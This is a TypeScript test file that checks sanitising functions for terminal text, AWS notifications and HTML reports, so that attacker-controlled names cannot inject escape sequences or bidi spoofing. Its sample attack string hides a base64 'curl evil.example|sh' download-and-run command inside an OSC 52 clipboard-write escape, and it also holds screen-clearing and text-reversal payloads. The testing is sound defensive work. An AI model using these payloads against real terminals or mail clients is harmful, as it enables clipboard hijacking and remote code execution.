import { describe, expect, it } from 'vitest';
import { buildNotification, displayValue } from '../../shared/notifier.js';
import { escapeHtml } from '../../shared/report/render.js';
import { snsMessageOf } from '../../shared/notification-size.js';
import { terminalText, terminalValue, withoutFormatCharacters } from '../../shared/safe-text.js';
import { record } from '../helpers/records.js';

// What an attacker puts in a name: OSC 0 (window title), CSI 2J (clear screen), a one-byte C1 CSI, OSC 52
// (clipboard write), CR (overwrite the line), DEL.
const ESCAPES = '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\rfake\u007f';
// Bidi controls and invisible characters that make one line read as another in a mail client.
const BIDI = ['\u061c', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
const INVISIBLE = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];

// biome-ignore lint/suspicious/noControlCharactersInRegex: the controls this test looks for, listed apart from safe-text.ts's \p{Cc}
const TERMINAL_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
const hasAny = (text: string, chars: readonly string[]) => chars.some((c) => text.includes(c));

describe('terminal text', () => {
  it('shows every control, escape sequence and bidi/zero-width character as \\uXXXX, keeping our line breaks', () => {
    const text = terminalText(`line one ${ESCAPES} ${BIDI.join('')}${INVISIBLE.join('')}\nline two`);
    expect(text).not.toMatch(TERMINAL_CONTROLS);
    expect(hasAny(text, [...BIDI, ...INVISIBLE])).toBe(false);
    expect(text).toContain('\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m');
    expect(text).toContain('\\u202e');
    expect(text.split('\n')).toHaveLength(2);
  });

  it('puts a value on one line: its line breaks are escaped too', () => {
    expect(terminalValue('a\nb\r\u2028c')).toBe('a\\u000ab\\u000d\\u2028c');
    expect(terminalValue('plain value: ünïcode ✓')).toBe('plain value: ünïcode ✓');
  });

  it('keeps JSON valid JSON with the same value', () => {
    const value = { name: `x${ESCAPES}${BIDI.join('')}${INVISIBLE.join('')}\u{e0041}`, quote: '\\\u009b' };
    const text = terminalText(JSON.stringify(value));
    expect(text).not.toMatch(TERMINAL_CONTROLS);
    expect(hasAny(text, [...BIDI, ...INVISIBLE])).toBe(false);
    expect(JSON.parse(text)).toEqual(value);
  });

  it('removes bidi and zero-width characters (notifications), leaving the rest', () => {
    expect(withoutFormatCharacters(`ad${BIDI.join('')}m${INVISIBLE.join('')}in`)).toBe('admin');
  });
});

describe('notification text', () => {
  it('strips bidi and zero-width characters from event values and message lines, and controls too', () => {
    const spoofed = record({
      actor: `arn:aws:iam::111122223333:user/\u202enimda\u202c${ESCAPES}`,
      userAgent: `aws-cli/2\u200b\u2066[trusted]\u2069`,
      resources: [{ type: 'AWS::S3::Bucket', id: `example\u200d-reports\ufeff` }],
    });
    const { text, subject } = buildNotification(spoofed, {
      title: 'Public access blocked on \u202eexample',
      lines: [`To reverse: aws s3api delete-public-access-block --bucket 'ex\u200bample\u202e'`],
    });

    for (const output of [text, subject]) {
      expect(hasAny(output, [...BIDI, ...INVISIBLE])).toBe(false);
      expect(output).not.toMatch(TERMINAL_CONTROLS);
    }
    expect(text).toContain('Actor: arn:aws:iam::111122223333:user/nimda ]0;pwned');
    expect(text).toContain("To reverse: aws s3api delete-public-access-block --bucket 'example'");
    expect(displayValue('a\u200bb\u202ec')).toBe('abc');
  });

  it('escapes bidi, zero-width and C1 characters in the JSON form too (email-json is read in a mail client), keeping the values', () => {
    const actor = `arn:aws:iam::111122223333:user/\u202enimda\u200b`;
    const userAgent = `\u2066\u202eaws-cli\u2069\u0085${ESCAPES}`;
    const notification = buildNotification(record({ actor, userAgent }), { title: 'x', lines: [] });
    const published = JSON.parse(snsMessageOf(notification)) as Record<string, string>;
    for (const protocol of ['email-json', 'sqs', 'lambda', 'http', 'https']) {
      const json = published[protocol] ?? '';
      expect(hasAny(json, [...BIDI, ...INVISIBLE, '\u0085'])).toBe(false);
      expect(json).not.toMatch(TERMINAL_CONTROLS);
      expect(JSON.parse(json)).toMatchObject({ record: { actor, userAgent } });
    }
  });

  it('leaves a command line as the rule wrote it: spaces inside a quoted name, and the whole of a long command', () => {
    const twoSpaces = "To re-create it: aws ec2 authorize-security-group-ingress --group-name 'web  prod'";
    const long = `To reverse on 100 resources: aws ec2 delete-tags --resources ${Array.from({ length: 100 }, (_, i) => `'i-${String(i).padStart(17, '0')}'`).join(' ')} --tags 'Owner'`;
    const { text } = buildNotification(record(), { title: 'x', lines: [twoSpaces, long] });
    expect(long.length).toBeGreaterThan(2_000);
    expect(text).toContain(`  ${twoSpaces}\n`);
    expect(text).toContain(`  ${long}\n`);
  });
});

describe('HTML report text', () => {
  it('shows bidi controls and controls as text, so a reversed command cannot pass for another', () => {
    const html = escapeHtml(`aws s3api delete-public-access-block --bucket '\u202eexample'\n<b>`);
    expect(hasAny(html, BIDI)).toBe(false);
    expect(html).toBe('aws s3api delete-public-access-block --bucket &#39;\\u202eexample&#39;\\u000a&lt;b&gt;');
  });
});
